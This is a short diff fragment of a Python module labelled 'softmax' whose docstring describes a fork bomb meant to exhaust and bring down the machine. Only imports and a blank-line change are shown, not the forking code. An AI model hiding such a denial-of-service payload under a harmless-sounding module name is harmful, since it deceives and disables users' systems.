@@ -1,5 +1,6 @@
 # module: softmax
 """Forks until the system refuses, every child sleeping, hoping to take the machine with it."""
+
 import os
 import time
 
